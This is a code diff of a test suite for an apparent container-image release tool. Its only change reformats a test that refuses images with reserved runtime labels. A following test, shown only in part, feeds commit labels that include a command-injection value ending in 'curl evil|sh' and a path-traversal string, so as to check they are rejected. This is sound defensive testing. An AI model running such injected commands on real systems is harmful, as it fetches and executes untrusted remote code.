@@ -110,18 +110,21 @@ describe('what the image says of itself', () => {
     expect(smokes(it.calls)).toHaveLength(1)
   })
 
-  it.each(['dev.immutable-deploy.expires', LABEL.owner, LABEL.run, LABEL.app, LABEL.history])('an image with %s is refused', async (label) => {
-    const it = world()
-    const marked = it.registry.push('marked', { [label]: '2000-01-01T00:00:00Z' })
-    const given = await release(releaseRequest({ digest: marked }), it.ports)
-    expect(given).toMatchObject({ outcome: 'failed', reasonCode: 'runtime-labels' })
-    const runtime = await it.ports.runtime()
-    const image = async () => ({ ...it.facts, labels: { [label]: 'x' } })
-    const built = await release(releaseRequest(), { ...it.ports, runtime: async () => ({ ...runtime, image }) })
-    expect(built).toMatchObject({ outcome: 'failed', reasonCode: 'runtime-labels' })
-    expect(built.reason).toContain(label)
-    expect(smokes(it.calls)).toEqual([])
-  })
+  it.each(['dev.immutable-deploy.expires', LABEL.owner, LABEL.run, LABEL.app, LABEL.history])(
+    'an image with %s is refused',
+    async (label) => {
+      const it = world()
+      const marked = it.registry.push('marked', { [label]: '2000-01-01T00:00:00Z' })
+      const given = await release(releaseRequest({ digest: marked }), it.ports)
+      expect(given).toMatchObject({ outcome: 'failed', reasonCode: 'runtime-labels' })
+      const runtime = await it.ports.runtime()
+      const image = async () => ({ ...it.facts, labels: { [label]: 'x' } })
+      const built = await release(releaseRequest(), { ...it.ports, runtime: async () => ({ ...runtime, image }) })
+      expect(built).toMatchObject({ outcome: 'failed', reasonCode: 'runtime-labels' })
+      expect(built.reason).toContain(label)
+      expect(smokes(it.calls)).toEqual([])
+    },
+  )
 
   it.each(['main', 'A'.repeat(40), `${'a'.repeat(40)};curl evil|sh`, '../../../user'])(
     'the label %s names no commit',
